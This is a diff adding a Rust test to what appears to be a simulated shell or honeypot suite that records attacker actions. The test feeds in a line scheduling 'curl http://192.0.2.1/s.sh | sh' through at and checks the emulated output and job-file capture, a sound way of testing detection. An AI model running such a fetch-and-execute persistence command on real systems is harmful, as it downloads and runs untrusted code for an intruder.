@@ -336,6 +336,22 @@ fn a_reverse_shell_of_bash_is_told_of() {
 }
 
 #[test]
+fn jobs_of_at_wait_and_are_samples() {
+    let line = "echo 'curl http://192.0.2.1/s.sh | sh' | at now + 1 minute; atq | cut -f2- | wc -l; at -c 1 | tail -2; atrm 1; atq; atrm 1; echo x | at nonsense; echo $?";
+    let (output, effects) = effects(line, &[]);
+    let mut lines = output.lines();
+    assert_eq!(lines.next(), Some("warning: commands will be executed using /bin/sh"));
+    let job = lines.next().expect("the job");
+    assert!(job.starts_with("job 1 at Thu Oct  9 ") && job.ends_with(":00 2025"), "{output}");
+    let rest: Vec<&str> = lines.collect();
+    let shown =
+        ["1", "curl http://192.0.2.1/s.sh | sh", "", "Cannot find jobid 1", "Garbled time", "1"];
+    assert_eq!(rest, shown, "{output}");
+    let captured = |effect: &String| effect.starts_with("captured /var/spool/cron/atjobs/a00001");
+    assert!(effects.iter().any(captured), "{effects:?}");
+}
+
+#[test]
 fn php_is_of_the_version_that_its_package_says() {
     let (output, _) = effects("dpkg-query -W -f '${Version}' php8.2-cli; echo; php -v", &[]);
     let mut lines = output.lines().filter(|line| !line.is_empty());
